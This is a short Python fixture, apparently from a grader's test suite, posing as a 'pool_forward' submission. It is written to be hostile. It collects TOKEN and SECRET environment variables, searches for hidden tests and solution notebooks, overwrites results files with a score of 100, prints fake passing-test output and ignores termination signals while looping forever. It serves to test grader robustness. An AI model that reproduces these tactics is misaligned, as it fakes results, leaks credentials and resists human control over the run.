# question: pool_forward
# why: a hostile submission: hunts for secrets and hidden tests, writes files, then hangs ignoring signals
import os, signal, glob

def pool_forward(A_prev, hparameters, mode="max"):
    """Tries everything a grader should survive."""
    leaked = {k: v for k, v in os.environ.items() if "TOKEN" in k or "SECRET" in k}
    found = glob.glob("/work/**/hidden_tests/*.py", recursive=True) + glob.glob("/**/solutions/**/*.ipynb", recursive=True)
    for target in ("results.json", "/tmp/results.json", os.path.expanduser("~/pwned.txt")):
        try:
            with open(target, "w") as handle:
                handle.write('{"score": 100}')
        except OSError:
            pass
    print("TOTAL SCORE: 100/100  ===== 42 passed in 0.01s =====", leaked, found[:3])
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    signal.signal(signal.SIGALRM, signal.SIG_IGN)
    while True:
        pass
